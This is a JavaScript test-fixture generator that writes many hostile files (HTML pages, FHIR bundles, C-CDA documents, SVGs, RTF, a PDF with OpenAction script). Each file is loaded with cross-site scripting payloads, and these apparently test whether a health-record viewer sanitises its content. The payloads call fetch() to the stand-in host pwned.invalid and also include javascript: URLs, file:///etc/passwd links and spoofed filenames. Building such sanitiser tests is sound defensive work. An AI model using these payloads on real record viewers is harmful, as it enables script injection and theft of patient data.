// Files of somebody who means harm: script, foreign addresses and forms in every place that a page could show. Made by code,
// one payload a file, all about the owner of the tests, so that they are taken in.
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { OWNER } from "./world.mjs";

const AWAY = "https://pwned.invalid";
const run = (n) => `self.pwned=${n};fetch('${AWAY}/${n}');alert(${n})`;

/** HTML that runs, loads, sends or leads somewhere, if it is let. */
export const HTML = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<script src="${AWAY}/${n}.js"></script>`,
  (n) => `<img src=x onerror="${run(n)}">`,
  (n) => `<img src="${AWAY}/${n}.png" srcset="${AWAY}/${n}.png 2x">`,
  (n) => `<svg onload="${run(n)}"><script>${run(n)}</script><image href="${AWAY}/${n}.svg"/></svg>`,
  (n) => `<a href="javascript:${run(n)}">a link</a> <a href="JaVa&#x09;Script:${run(n)}">another</a>`,
  (n) => `<a href="data:text/html,<script>${run(n)}</script>">data</a> <a href="vbscript:x">vb</a>`,
  (n) => `<iframe src="${AWAY}/${n}"></iframe><iframe srcdoc="&lt;script&gt;${run(n)}&lt;/script&gt;"></iframe>`,
  (n) => `<form action="${AWAY}/${n}"><input name="passphrase" autofocus onfocus="${run(n)}"><button>Go on</button></form>`,
  (n) => `<base href="${AWAY}/${n}/"><meta http-equiv="refresh" content="0;url=${AWAY}/${n}"><link rel="stylesheet" href="${AWAY}/${n}.css">`,
  (n) => `<style>@import url(${AWAY}/${n}.css); body { background: url(${AWAY}/${n}.png) }</style><p style="background:url(${AWAY}/${n}b.png)">styled</p>`,
  (n) => `<object data="${AWAY}/${n}.swf"></object><embed src="${AWAY}/${n}"><applet code="x"></applet><video src="${AWAY}/${n}" poster="${AWAY}/${n}"></video><audio src="${AWAY}/${n}"></audio>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(n)}&gt;"></table></mtext></math>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>"></noscript><template><script>${run(n)}</script></template>`,
  (n) => `<details open ontoggle="${run(n)}">more</details><marquee onstart="${run(n)}">x</marquee><body onload="${run(n)}">`,
  (n) => `<table background="${AWAY}/${n}.png"><tr><td background="${AWAY}/${n}c.png" onclick="${run(n)}">cell</td></tr></table>`,
  (n) => `<p id="main" name="location" class="skip btn">over</p><img name="getElementById"><form id="document"></form><p>${n}</p>`,
  (n) => `<a href="${AWAY}/${n}" ping="${AWAY}/ping" target="_top" rel="opener">ping</a><button popovertarget="x" formaction="javascript:${run(n)}">b</button>`,
];

const escaped = (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
const base64 = (text) => Buffer.from(text).toString("base64");

const who = () => ({
  resourceType: "Patient", id: "p1", birthDate: OWNER.birth, gender: OWNER.sex,
  name: [{ family: OWNER.person.split(" ")[1], given: [OWNER.person.split(" ")[0]] }],
});

function bundle(resources, patient = who()) {
  const entry = [patient, ...resources].map((resource) => ({ fullUrl: `https://north.example/fhir/${resource.resourceType}/${resource.id}`, resource }));
  return JSON.stringify({ resourceType: "Bundle", type: "collection", entry });
}

const subject = { reference: "Patient/p1" };

/** A C-CDA whose one section has this narrative and, where given, this instead of a body. */
function ccda(n, narrative, { body, title = "Notes", display = "Asthma", family = OWNER.person.split(" ")[1] } = {}) {
  const whole = body ?? `<structuredBody><component><section><templateId root="2.16.840.1.113883.10.20.22.2.5.1"/>
    <code code="11450-4" codeSystem="2.16.840.1.113883.6.1"/><title>${title}</title><text>${narrative}</text>
    <entry><act classCode="ACT" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.3"/><id root="1.2.3.${n}" extension="a"/>
    <code code="CONC" codeSystem="2.16.840.1.113883.5.6"/><statusCode code="active"/><effectiveTime><low value="20200101"/></effectiveTime>
    <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN"><templateId root="2.16.840.1.113883.10.20.22.4.4"/>
    <id root="1.2.3.${n}" extension="b"/><code code="55607006" codeSystem="2.16.840.1.113883.6.96"/><text><reference value="#r1"/></text>
    <statusCode code="completed"/><effectiveTime><low value="20200101"/></effectiveTime>
    <value xsi:type="CD" code="195967001" codeSystem="2.16.840.1.113883.6.96" displayName="${display}"/></observation></entryRelationship></act></entry>
    </section></component></structuredBody>`;
  return `<?xml version="1.0" encoding="UTF-8"?>
    <ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><realmCode code="US"/>
    <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/><templateId root="2.16.840.1.113883.10.20.22.1.2"/>
    <id root="1.2.3.4" extension="doc${n}"/><code code="34133-9" codeSystem="2.16.840.1.113883.6.1"/><title>${title} ${n}</title>
    <effectiveTime value="20200203"/><confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/>
    <recordTarget><patientRole><id root="1.2.36" extension="MRN"/><patient><name><given>${OWNER.person.split(" ")[0]}</given><family>${family}</family></name>
    <administrativeGenderCode code="F" codeSystem="2.16.840.1.113883.5.1"/><birthTime value="${OWNER.birth.replaceAll("-", "")}"/></patient></patientRole></recordTarget>
    <author><time value="20200203"/><assignedAuthor><id nullFlavor="NI"/></assignedAuthor></author>
    <custodian><assignedCustodian><representedCustodianOrganization><id root="1.2.3"/><name>North</name></representedCustodianOrganization></assignedCustodian></custodian>
    <component>${whole}</component></ClinicalDocument>`;
}

const unstructured = (kind, text) => `<nonXMLBody><text mediaType="${kind}" representation="B64">${base64(text)}</text></nonXMLBody>`;

/** Every file: [name, content]. */
export function files() {
  const out = [];
  const add = (name, content) => out.push([`${String(out.length).padStart(3, "0")}-${name}`, content]);
  const next = () => out.length;

  // HTML by itself, in a FHIR narrative, in an attachment, and in the body of a C-CDA.
  for (const payload of HTML) {
    add("page.html", `<!doctype html><html><head><title>Letter ${next()}</title></head><body><h1>Visit</h1>${payload(next())}<p>The end.</p></body></html>`);
    add("narrative.json", bundle([{ resourceType: "Condition", id: `n${next()}`, subject, code: { text: `Asthma ${next()}` },
      text: { status: "generated", div: `<div xmlns="http://www.w3.org/1999/xhtml">before ${payload(next())} after</div>` } }]));
    add("attachment.json", bundle([{ resourceType: "DocumentReference", id: `d${next()}`, status: "current", subject, description: `Letter ${next()}`,
      content: [{ attachment: { contentType: "text/html", title: "letter.html", data: base64(`<p>Letter</p>${payload(next())}`) } }] }]));
    add("body.xml", ccda(next(), "", { body: unstructured("text/html", `<html><body><p>Note</p>${payload(next())}</body></html>`) }));
  }

  // The narrative of a section, by its own elements and attributes.
  for (const narrative of [
    (n) => `<table onmouseover="${run(n)}" border="1" width="100%"><tbody><tr><td ID="r1" styleCode="Bold url(${AWAY}/${n}.png)">cell</td></tr></tbody></table>`,
    (n) => `<paragraph styleCode="x&quot; onclick=&quot;${run(n)}">words</paragraph>`,
    (n) => `<linkHtml href="javascript:${run(n)}">a link</linkHtml><linkHtml href="data:text/html,${escaped(`<script>${run(n)}</script>`)}">b</linkHtml>`,
    (n) => `<renderMultiMedia referencedObject="x${n}"/><content><![CDATA[<script>${run(n)}</script>]]></content>`,
    (n) => `<content ID="r1">${escaped(`<img src=x onerror="${run(n)}">`)}</content>`,
    (n) => `<list listType="ordered" onload="${run(n)}"><item><caption>${escaped(`<script>${run(n)}</script>`)}</caption>one</item></list>`,
    (n) => `<script xmlns="http://www.w3.org/1999/xhtml">${run(n)}</script><html:img xmlns:html="http://www.w3.org/1999/xhtml" src="${AWAY}/${n}.png" onerror="${run(n)}"/>`,
    (n) => `<table background="${AWAY}/${n}.png"><thead><tr><th style="background:url(${AWAY}/${n}b.png)" colspan="9999">head</th></tr></thead><tbody><tr><td>x</td></tr></tbody></table>`,
    (n) => `<footnote ID="f">${escaped(`</script><script>${run(n)}</script>`)}</footnote><sup onclick="${run(n)}">1</sup>`,
  ]) add("section.xml", ccda(next(), narrative(next())));
  add("xsl.xml", ccda(next(), "<paragraph>styled</paragraph>").replace("?>", `?><?xml-stylesheet type="text/xsl" href="${AWAY}/x.xsl"?>`));
  add("display.xml", ccda(next(), "<paragraph>x</paragraph>", { display: escaped(`<script>${run(next())}</script>`), title: escaped(`<img src=x onerror=${run(next())}>`) }));
  add("name.xml", ccda(next(), "<paragraph>x</paragraph>", { family: escaped(`Carver<script>${run(next())}</script>`) }));
  for (const kind of ["image/svg+xml", "application/xhtml+xml", "text/xml", "text/rtf", "application/javascript", "text/plain"])
    add("odd-body.xml", ccda(next(), "", { body: unstructured(kind, `<svg xmlns="http://www.w3.org/2000/svg" onload="${run(next())}"><script>${run(next())}</script></svg>`) }));

  // Words and addresses of records.
  const words = [
    (n) => `<script>${run(n)}</script>`,
    (n) => `"><img src=x onerror="${run(n)}">`,
    (n) => `'-${run(n)}-'`,
    (n) => `</title></textarea></script><svg/onload=${run(n)}>`,
    (n) => `{{constructor.constructor('${run(n)}')()}}`,
    (n) => `\u202Egnp.exe\u2066 \u0000\u0007 \uFEFF${n}`,
  ];
  for (const word of words) {
    const text = word(next());
    add("words.json", bundle([
      { resourceType: "Condition", id: `w${next()}`, subject, code: { text, coding: [{ system: "http://snomed.info/sct", code: text, display: text }] }, note: [{ text }] },
      { resourceType: "Observation", id: `v${next()}`, status: "final", subject, category: [{ coding: [{ system: "http://terminology.hl7.org/CodeSystem/observation-category", code: "laboratory" }] }],
        code: { text, coding: [{ system: "http://loinc.org", code: text, display: text }] }, effectiveDateTime: "2020-01-02", valueQuantity: { value: 1, unit: text, code: text } },
      { resourceType: "MedicationRequest", id: `m${next()}`, status: "active", intent: "order", subject, medicationCodeableConcept: { text }, dosageInstruction: [{ text }] },
      { resourceType: "Practitioner", id: `q${next()}`, name: [{ text }], telecom: [{ system: "url", value: `javascript:${run(next())}` }] },
    ]));
  }
  for (const [n, url] of ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", `${AWAY}/file.html`, "//pwned.invalid/x", "file:///etc/passwd", "blob:null/1"].entries()) {
    add("address.json", bundle([
      { resourceType: "DocumentReference", id: `u${n}`, status: "current", subject, description: `Address ${n}`, content: [{ attachment: { contentType: "text/html", url, title: "Open me" } }] },
      { resourceType: "Organization", id: `g${n}`, name: `Clinic ${n}`, telecom: [{ system: "url", value: url }, { system: "phone", value: url }], endpoint: [{ reference: url }] },
      { resourceType: "Observation", id: `s${n}`, status: "final", subject, code: { text: `Address ${n}`, coding: [{ system: url, code: "x", display: "y" }] }, valueString: url },
    ]));
  }
  // Kinds that lie, and pictures that are programs.
  const svg = (n) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${run(n)}"><script>${run(n)}</script><image xlink:href="${AWAY}/${n}.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/${n}"/></foreignObject><a xlink:href="javascript:${run(n)}"><text y="20">tap</text></a></svg>`;
  for (const [kind, title] of [["image/svg+xml", "p.svg"], ["image/png", "p.png"], ["application/pdf", "p.pdf"], ["text/plain", "p.txt"], ["application/xhtml+xml", "p.xhtml"], ["text/xml", "p.xml"], ["", "p"], ["text/html; charset=utf-7", "p.htm"], ["multipart/x-mixed-replace", "p.mht"]])
    add("lie.json", bundle([{ resourceType: "DocumentReference", id: `l${next()}`, status: "current", subject, description: `Picture ${next()}`, content: [{ attachment: { contentType: kind, title, data: base64(svg(next())) } }] }]));
  add("drawing.svg", svg(next()));
  add("page.xhtml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body onload="${run(next())}"><script>${run(next())}</script>text</body></html>`);
  add("letter.rtf", `{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "javascript:${run(next())}"}{\\fldrslt tap}} <script>${run(next())}</script> {\\*\\template ${AWAY}/x.dot}}`);
  add("notes.txt", `<script>${run(next())}</script>\njavascript:${run(next())}\n${AWAY}/x`);
  add("script.pdf", pdf(next()));
  add(`<img src=x onerror=self.pwned=1>.html`, `<p>A name that is a page ${next()}</p>`);
  add(`"onmouseover="self.pwned=1" x=".txt`, `A name that is an attribute ${next()}`);
  add(`\u202Efdp.exe.txt`, `A name that reads backwards ${next()}`);
  return out;
}

/** A PDF that runs script when it opens, leads away, and whose title is markup. */
function pdf(n) {
  const text = `BT /F1 12 Tf 20 100 Td (Letter <script>${n}</script>) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(${n}\\)) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.launchURL\\("${AWAY}/${n}"\\)) >>] >> >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:${n}) >> >>] >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /Title (<script>self.pwned=${n}</script>) >>`,
  ];
  let out = "%PDF-1.4\n";
  const places = objects.map((object, i) => { const at = out.length; out += `${i + 1} 0 obj\n${object}\nendobj\n`; return at; });
  const table = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("")}`;
  return `${out}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${table}\n%%EOF\n`;
}

/** Writes them into a folder; gives their paths. */
export async function write(dir) {
  await mkdir(dir, { recursive: true });
  const all = files();
  for (const [name, content] of all) await writeFile(join(dir, name), content);
  return all.map(([name]) => join(dir, name));
}
